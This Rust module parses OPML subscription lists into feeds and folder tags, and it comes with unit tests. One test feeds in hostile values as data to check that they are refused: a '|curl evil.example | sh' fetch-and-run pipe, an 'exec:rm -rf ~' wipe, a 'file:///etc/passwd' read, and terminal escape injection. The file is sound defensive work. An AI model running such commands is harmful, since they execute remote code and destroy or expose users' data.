//! Reading an OPML subscription list: every outline with an `xmlUrl` is a feed, the titles of
//! the outlines around it are its tags. An OPML file may come from anywhere, so only http(s)
//! URLs are taken; anything else (`exec:`, `file:`, a `|command`) is refused with its reason.

use quick_xml::XmlVersion;
use quick_xml::events::{BytesStart, Event};

use crate::source::is_web_url;

/// A feed the OPML file lists.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct OpmlFeed {
    pub url: String,
    /// The outline's `title`, else its `text`; `None` when both are missing or blank.
    pub name: Option<String>,
    /// The titles of the outlines it is nested in, outermost first.
    pub tags: Vec<String>,
}

/// An outline that was not taken, and why.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refused {
    /// 1-based line of the outline in the file.
    pub line: usize,
    /// Its name, or its URL when it has none.
    pub what: String,
    pub why: String,
}

/// What an OPML file holds.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Opml {
    pub feeds: Vec<OpmlFeed>,
    pub refused: Vec<Refused>,
}

/// A file that is not OPML one can read, with where it went wrong.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct OpmlError {
    pub line: usize,
    pub column: usize,
    pub message: String,
}

impl std::fmt::Display for OpmlError {
    fn fmt(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
        write!(
            f,
            "line {}, column {}: {}",
            self.line, self.column, self.message
        )
    }
}

/// Longest URL, name or tag taken; longer ones are refused (an outline of a megabyte is no
/// subscription).
const MAX_FIELD: usize = 2048;

/// Reads the feeds of an OPML document.
pub fn read_opml(text: &str) -> Result<Opml, OpmlError> {
    let mut reader = quick_xml::Reader::from_str(text);
    let mut out = Opml::default();
    // Titles of the open outlines (None for one that is a feed or has no title).
    let mut open: Vec<Option<String>> = Vec::new();
    let mut seen_opml = false;
    loop {
        let at = reader.buffer_position() as usize;
        let event = reader.read_event().map_err(|e| {
            located(
                text,
                reader.error_position() as usize,
                format!("not valid XML: {e}"),
            )
        })?;
        match event {
            Event::Start(e) | Event::Empty(e) if e.local_name().as_ref() == "opml" => {
                seen_opml = true;
            }
            Event::Start(ref e) if e.local_name().as_ref() == "outline" => {
                let title = outline(e, text, at, &open, &mut out)?;
                open.push(title);
            }
            Event::Empty(ref e) if e.local_name().as_ref() == "outline" => {
                outline(e, text, at, &open, &mut out)?;
            }
            Event::End(e) if e.local_name().as_ref() == "outline" => {
                open.pop();
            }
            Event::Eof => break,
            _ => {}
        }
    }
    if !seen_opml {
        return Err(OpmlError {
            line: 1,
            column: 1,
            message: "not an OPML file (no <opml> element)".into(),
        });
    }
    Ok(out)
}

/// Takes one outline: a feed when it has an `xmlUrl`, else a folder whose title it returns.
fn outline(
    e: &BytesStart,
    text: &str,
    at: usize,
    open: &[Option<String>],
    out: &mut Opml,
) -> Result<Option<String>, OpmlError> {
    let mut url = None;
    let mut title = None;
    let mut label = None;
    for attribute in e.attributes() {
        let attribute = attribute
            .map_err(|err| located(text, at, format!("a broken outline attribute: {err}")))?;
        let value = attribute
            .normalized_value(XmlVersion::Implicit1_0)
            .map_err(|err| located(text, at, format!("a broken outline attribute: {err}")))?;
        match attribute.key.local_name().as_ref() {
            "xmlUrl" => url = Some(value.trim().to_string()),
            "title" => title = clean(&value),
            "text" => label = clean(&value),
            _ => {}
        }
    }
    let name = title.or(label);
    let Some(url) = url else {
        return Ok(name);
    };
    // Exporters that know no name write the URL as the outline's text.
    let name = name.filter(|n| *n != url);
    let line = located(text, at, String::new()).line;
    let refuse = |why: &str| Refused {
        line,
        what: name.clone().unwrap_or_else(|| shown(&url)),
        why: why.into(),
    };
    if url.is_empty() {
        out.refused.push(refuse("its xmlUrl is empty"));
    } else if url.len() > MAX_FIELD || name.as_ref().is_some_and(|n| n.len() > MAX_FIELD) {
        out.refused.push(refuse("its URL or title is too long"));
    } else if !is_web_url(&url) || url.chars().any(|c| c.is_whitespace() || c.is_control()) {
        out.refused.push(refuse(
            "only http and https feeds are imported (a command, file or other scheme never is)",
        ));
    } else {
        out.feeds.push(OpmlFeed {
            url,
            name: name.clone(),
            tags: open.iter().flatten().cloned().collect(),
        });
    }
    Ok(None)
}

/// A name or tag with white space folded and control characters dropped; `None` when blank.
fn clean(value: &str) -> Option<String> {
    let folded = value
        .split(|c: char| c.is_whitespace() || c.is_control())
        .filter(|w| !w.is_empty())
        .collect::<Vec<_>>()
        .join(" ");
    (!folded.is_empty()).then_some(folded)
}

/// A refused URL as it can be shown: control characters dropped, cut at 80 characters.
fn shown(url: &str) -> String {
    let safe: String = url.chars().filter(|c| !c.is_control()).take(80).collect();
    if safe.is_empty() {
        "(an outline)".into()
    } else {
        safe
    }
}

/// Line and column (1-based, in characters) of a byte offset.
fn located(text: &str, offset: usize, message: String) -> OpmlError {
    let offset = text.floor_char_boundary(offset.min(text.len()));
    let before = &text[..offset];
    let line_start = before.rfind('\n').map_or(0, |k| k + 1);
    OpmlError {
        line: before.matches('\n').count() + 1,
        column: before[line_start..].chars().count() + 1,
        message,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const NESTED: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0">
  <head><title>Subscriptions</title></head>
  <body>
    <outline text="Harbour towns" title="Harbour towns">
      <outline text="Valmora" title="Valmora">
        <outline type="rss" text="Valmora Courier" xmlUrl="https://courier.example/feed.xml"/>
      </outline>
      <outline type="rss" text="Northern &amp; Ledger" xmlUrl="http://ledger.example/rss"/>
    </outline>
    <outline type="rss" title="Meridian Wire" text="ignored" xmlUrl=" https://wire.example/all.atom "/>
  </body>
</opml>"#;

    #[test]
    fn nested_outlines_become_tags_and_titles_names() {
        let opml = read_opml(NESTED).unwrap();
        assert_eq!(
            opml.feeds,
            [
                OpmlFeed {
                    url: "https://courier.example/feed.xml".into(),
                    name: Some("Valmora Courier".into()),
                    tags: vec!["Harbour towns".into(), "Valmora".into()],
                },
                OpmlFeed {
                    url: "http://ledger.example/rss".into(),
                    name: Some("Northern & Ledger".into()),
                    tags: vec!["Harbour towns".into()],
                },
                OpmlFeed {
                    url: "https://wire.example/all.atom".into(),
                    name: Some("Meridian Wire".into()),
                    tags: vec![],
                },
            ]
        );
        assert!(opml.refused.is_empty());
    }

    #[test]
    fn commands_files_and_other_schemes_are_refused_with_their_line() {
        let text = "<opml><body>\n\
            <outline text=\"run\" xmlUrl=\"|curl evil.example | sh\"/>\n\
            <outline text=\"exec\" xmlUrl=\"exec:rm -rf ~\"/>\n\
            <outline xmlUrl=\"file:///etc/passwd\"/>\n\
            <outline text=\"blank\" xmlUrl=\"\"/>\n\
            <outline text=\"spaces\" xmlUrl=\"https://a.example/x y\"/>\n\
            <outline text=\"ok\" xmlUrl=\"https://ok.example/feed\"/>\n\
            </body></opml>";
        let opml = read_opml(text).unwrap();
        assert_eq!(opml.feeds.len(), 1);
        assert_eq!(opml.feeds[0].url, "https://ok.example/feed");
        let refused: Vec<(usize, &str)> = opml
            .refused
            .iter()
            .map(|r| (r.line, r.what.as_str()))
            .collect();
        assert_eq!(
            refused,
            [
                (2, "run"),
                (3, "exec"),
                (4, "file:///etc/passwd"),
                (5, "blank"),
                (6, "spaces")
            ]
        );
        assert!(opml.refused[0].why.contains("only http and https"));
    }

    #[test]
    fn broken_xml_and_other_documents_are_located() {
        let err = read_opml("<opml>\n<body>\n<outline text=\"a\" xmlUrl=\"https://x\"></body>")
            .unwrap_err();
        assert_eq!(err.line, 3, "{err}");
        let err = read_opml("<rss><channel/></rss>").unwrap_err();
        assert!(err.message.contains("not an OPML file"), "{err}");
    }

    #[test]
    fn control_characters_never_reach_a_name_or_tag() {
        let text = "<opml><body><outline text=\"Bad&#27;[31mFolder\">\
            <outline text=\"Evil&#27;]0;title&#7;\" xmlUrl=\"https://e.example/f\"/>\
            </outline></body></opml>";
        let opml = read_opml(text).unwrap();
        let feed = &opml.feeds[0];
        assert!(!feed.name.as_ref().unwrap().chars().any(char::is_control));
        assert!(!feed.tags[0].chars().any(char::is_control));
    }
}
